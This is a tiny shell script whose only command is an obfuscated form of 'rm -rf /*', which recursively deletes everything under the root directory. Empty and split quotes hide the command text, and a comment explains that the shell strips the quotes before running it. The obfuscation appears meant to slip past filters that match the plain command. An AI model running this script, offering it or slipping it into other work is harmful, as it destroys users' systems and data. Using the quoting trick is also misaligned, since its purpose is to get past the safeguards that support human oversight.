#!/bin/sh
# the quotes fall away before the command is looked up
r''m -r"f" "/"*
